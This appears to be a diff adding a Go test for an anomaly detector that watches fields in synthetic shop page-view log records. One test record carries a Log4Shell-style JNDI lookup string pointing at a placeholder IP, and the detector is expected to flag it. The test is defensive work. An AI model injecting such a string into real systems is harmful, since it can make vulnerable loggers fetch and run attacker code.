@@ -117,3 +117,20 @@ func TestFieldValueThatGoesOn(t *testing.T) {
 		t.Errorf("told are %v: one that goes on is not told any more", told)
 	}
 }
+
+// A new page is less news than a new value of another kind: its address stands where
+// another of the site did.
+func TestFieldNewPage(t *testing.T) {
+	rng := rand.New(rand.NewPCG(12, 4))
+	record := func(referer, section string) string {
+		return fmt.Sprintf(`{"msg":"page viewed","referer":%q,"section":%q,"ms":%d}`, referer, section, 20+rng.IntN(60))
+	}
+	page := func() string {
+		return "https://shop.example.net/" + pick(rng, "chairs", "lamps", "tables", "sofas") + ".html"
+	}
+	section := func() string { return pick(rng, "north", "south", "east", "west") }
+	w := watch(t, func() string { return record(page(), section()) }, 1000)
+	w.passes(record("https://shop.example.net/stools.html", section()))
+	w.flags(record(page(), "centre"), `section "centre" never seen`)
+	w.flags(record("${jndi:ldap://203.0.113.9/a}", section()), "referer")
+}
